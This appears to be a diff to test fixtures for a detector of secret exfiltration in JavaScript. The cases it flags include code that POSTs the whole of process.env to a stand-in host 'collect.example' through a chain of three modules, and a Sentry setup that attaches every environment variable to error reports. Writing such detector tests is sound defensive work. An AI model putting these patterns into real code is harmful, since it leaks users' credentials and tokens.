@@ -182,8 +182,30 @@ export default defineCases({
       name: 'in every report of errors',
       code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: 'https://0@o0.ingest.collect.example/0', beforeSend: (event) => ({ ...event, extra: { ...process.env } }) })",
     },
+    {
+      name: 'by an object that a third module hands over',
+      files: {
+        'index.js':
+          "const { Collector } = require('./collector');\nconst { Http } = require('./http');\nnew Collector(new Http('https://collect.example')).start()",
+        'collector.js':
+          'exports.Collector = class { constructor(t) { this.t = t } start() { return this.t.send(JSON.stringify(process.env)) } }',
+        'http.js':
+          "exports.Http = class { constructor(u) { this.u = u } send(body) { return fetch(this.u, { method: 'POST', body }) } }",
+      },
+    },
   ],
   ok: [
+    {
+      name: 'an object that a third module hands over, and that only runs something',
+      files: {
+        'index.js':
+          "const { Task } = require('./task');\nconst { Shell } = require('./shell');\nnew Task(new Shell()).start()",
+        'task.js': 'exports.Task = class { constructor(t) { this.t = t } start() { return this.t.run(process.env) } }',
+        'shell.js':
+          "exports.Shell = class { run(env) { return require('child_process').spawn('git', ['status'], { env }) } }",
+        'http.js': "exports.post = (body) => fetch('https://a.example', { method: 'POST', body })",
+      },
+    },
     {
       name: 'reports of errors without names',
       code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN, release: process.env.npm_package_version, beforeSend: (event) => ({ ...event, server_name: undefined }) })",
